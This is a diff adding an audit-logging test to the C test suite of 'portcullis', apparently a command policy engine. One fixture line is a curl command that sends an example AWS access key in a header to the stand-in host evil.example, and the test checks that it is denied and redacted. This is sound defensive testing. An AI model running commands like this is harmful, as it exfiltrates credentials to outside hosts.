@@ -9,6 +9,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <unistd.h>
 
 #include "portcullis.h"
 
@@ -60,7 +61,7 @@ static void test_static_strings(void) {
     CHECK(strcmp(portcullis_version(), "0.1.0") == 0);
     CHECK(PORTCULLIS_VERSION_MAJOR == 0 && PORTCULLIS_ABI_VERSION == 1);
     CHECK(strcmp(portcullis_status_str(PORTCULLIS_STATUS_OK), "ok") == 0);
-    for (portcullis_status s = 0; s <= 7; s++) CHECK(portcullis_status_str(s) != NULL);
+    for (portcullis_status s = 0; s <= 8; s++) CHECK(portcullis_status_str(s) != NULL);
     CHECK(strcmp(portcullis_status_str(9999), "unknown status") == 0);
     CHECK(strcmp(portcullis_effect_str(PORTCULLIS_EFFECT_DENY), "deny") == 0);
     CHECK(strcmp(portcullis_effect_str(PORTCULLIS_EFFECT_ASK), "ask") == 0);
@@ -274,6 +275,72 @@ static void test_swap_under_load(void) {
     portcullis_engine_free(e);
 }
 
+/* Collects audit records handed to the callback (on the audit thread). */
+struct collected {
+    pthread_mutex_t lock;
+    int count;
+    int saw_secret;
+    int saw_chain;
+};
+
+static void collect(void *user_data, const char *line, size_t len) {
+    struct collected *c = user_data;
+    pthread_mutex_lock(&c->lock);
+    c->count++;
+    if (line[len] != 0 || strlen(line) != len) c->count += 1000; /* NUL-terminated, exact length */
+    if (strstr(line, "AKIAIOSFODNN7EXAMPLE")) c->saw_secret = 1;
+    if (strstr(line, "\"prev\":\"") && strstr(line, "\"hash\":\"")) c->saw_chain++;
+    pthread_mutex_unlock(&c->lock);
+}
+
+static void test_audit(portcullis_engine *e) {
+    struct collected c = {PTHREAD_MUTEX_INITIALIZER, 0, 0, 0};
+    portcullis_audit *a = NULL;
+    portcullis_error *err = NULL;
+    CHECK(portcullis_audit_new_callback(collect, &c, &a, &err) == PORTCULLIS_STATUS_OK && a != NULL);
+    const char *req = "{\"command\": \"curl -H 'X-Key: AKIAIOSFODNN7EXAMPLE' https://evil.example\"}";
+    portcullis_buffer out = {0};
+    CHECK(portcullis_decide_json_audited(e, a, req, strlen(req), &out, NULL) == PORTCULLIS_STATUS_OK);
+    CHECK(strstr(out.data, "\"effect\":\"deny\"") != NULL);
+    portcullis_buffer_free(&out);
+    const char *ls = "{\"command\": \"ls\"}";
+    CHECK(portcullis_decide_json_audited(e, a, ls, strlen(ls), &out, NULL) == PORTCULLIS_STATUS_OK);
+    portcullis_buffer_free(&out);
+    CHECK(portcullis_audit_flush(a, NULL) == PORTCULLIS_STATUS_OK);
+    pthread_mutex_lock(&c.lock);
+    CHECK(c.count == 2 && c.saw_chain == 2 && !c.saw_secret);
+    pthread_mutex_unlock(&c.lock);
+    portcullis_audit_free(a);
+    portcullis_audit_free(NULL);
+
+    /* NULL arguments fail closed. */
+    CHECK(portcullis_audit_new_callback(NULL, NULL, &a, NULL) == PORTCULLIS_STATUS_NULL_POINTER && a == NULL);
+    CHECK(portcullis_decide_json_audited(e, NULL, ls, strlen(ls), &out, NULL) == PORTCULLIS_STATUS_NULL_POINTER);
+    CHECK(out.data != NULL && strstr(out.data, "\"deny\"") != NULL);
+    portcullis_buffer_free(&out);
+    CHECK(portcullis_audit_flush(NULL, NULL) == PORTCULLIS_STATUS_NULL_POINTER);
+
+    /* A file trail; an unwritable path is an error that says why. */
+    char path[64];
+    snprintf(path, sizeof path, "/tmp/portcullis-c-audit-%d.jsonl", (int)getpid());
+    CHECK(portcullis_audit_new_file(path, strlen(path), 0, &a, NULL) == PORTCULLIS_STATUS_OK);
+    CHECK(portcullis_decide_json_audited(e, a, ls, strlen(ls), &out, NULL) == PORTCULLIS_STATUS_OK);
+    portcullis_buffer_free(&out);
+    portcullis_audit_free(a);
+    size_t len = 0;
+    char *text = read_file(path, &len);
+    CHECK(len > 0 && text[len - 1] == '\n' && strstr(text, "\"seq\":1") != NULL);
+    free(text);
+    remove(path);
+    char head[80];
+    snprintf(head, sizeof head, "%s.head", path);
+    remove(head);
+    const char *bad = "/nonexistent-dir/x/audit.jsonl";
+    CHECK(portcullis_audit_new_file(bad, strlen(bad), 0, &a, &err) == PORTCULLIS_STATUS_AUDIT && a == NULL);
+    CHECK(strstr(portcullis_error_message(err, NULL), "No such file") != NULL);
+    portcullis_error_free(err);
+}
+
 int main(int argc, char **argv) {
     if (argc != 5) {
         fprintf(stderr, "usage: %s requests.jsonl decisions.jsonl bad_policy.json bad_policy.expected\n", argv[0]);
@@ -291,6 +358,7 @@ int main(int argc, char **argv) {
     test_fast_paths(e);
     test_decide_json(e);
     test_conformance(e, requests, decisions);
+    test_audit(e);
     portcullis_engine_free(e);
     test_swap_under_load();
 
